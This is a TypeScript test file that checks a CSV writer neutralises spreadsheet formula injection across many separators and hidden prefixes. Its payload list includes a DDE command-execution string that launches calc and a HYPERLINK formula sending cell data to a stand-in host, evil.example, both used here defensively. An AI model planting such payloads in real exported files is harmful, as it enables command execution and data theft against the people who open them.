import { expect, test } from 'vitest';
import { cellText } from '#formats/table/cell.ts';
import { detectEncoding } from './decode-text.ts';
import { readCsv, SEPARATORS, type Separator } from './read-csv.ts';
import { type CsvCell, figure, writeCsv } from './write-csv.ts';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
const HEADS = ['', ' ', '\t', '\r\n', '\ufeff', '\u00a0', '\u200b', '"', "'", 'x;', 'x,', 'x\t', 'x|', 'x\n'];
const BODIES = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1;"x")'];

/** Every beginning behind every thing that might hide it, before three formulas: more than five hundred. */
const PAYLOADS = STARTS.flatMap((start) =>
  HEADS.flatMap((head) => BODIES.map((body) => `${head}${start}${body}`)),
);

/** The cells as a spreadsheet with this separator cuts them. */
async function open(csv: string, separator: Separator): Promise<string[]> {
  const bytes = Buffer.from(csv);
  const rows = await Array.fromAsync(readCsv(bytes, { encoding: detectEncoding(bytes), separator }, 'x.csv'));
  return rows.flat().flatMap(({ cells }) => cells.map(String));
}

/** What a spreadsheet would compute: an equals, plus, minus or at sign first, blanks aside, and not just a number. */
function isComputed(cell: string): boolean {
  return /^[\s\p{Cc}\ufeff\u200b]*[=+\-@＝＋－＠]/u.test(cell) && !/^-\d+([.,]\d+)?$/.test(cell);
}

test.each(SEPARATORS)(
  'of %j and 500 formulas none is one, with whatever separator it is opened',
  async (separator) => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(500);
    const csv = writeCsv(
      PAYLOADS.map((payload): CsvCell[] => [payload, figure(payload), figure('-12.50'), 'x']),
      { separator },
    );
    for (const openedWith of SEPARATORS) {
      const computed = (await open(csv, openedWith)).filter(isComputed);
      expect([openedWith, computed]).toEqual([openedWith, []]);
    }
  },
);

test.each(['-12.50', '-1.234,56', '0', '1234', "1'234.50", '12,00-', '1 234,56'])(
  '%s stays a number',
  (text) => {
    expect(writeCsv([[figure(text), 'x']], { separator: '|' })).toBe(`${text}|x\r\n`);
  },
);

test.each([
  ['-12.50', "'-12.50"],
  ['+32 81 55 01 01', "'+32 81 55 01 01"],
  ["'t Hoekje", "'t Hoekje"],
  ['Café «Zoë»', 'Café «Zoë»'],
  ['a;=b', '"a;\'=b"'],
  ['=1', "'=1"],
])('the words %s are written %s, and our own import reads them back', async (words, written) => {
  const csv = writeCsv([[words, 'x']], { separator: ';' });
  expect(csv).toBe(`${written};x\r\n`);
  if (!words.includes(';')) expect(cellText((await open(csv, ';'))[0])).toBe(words);
});
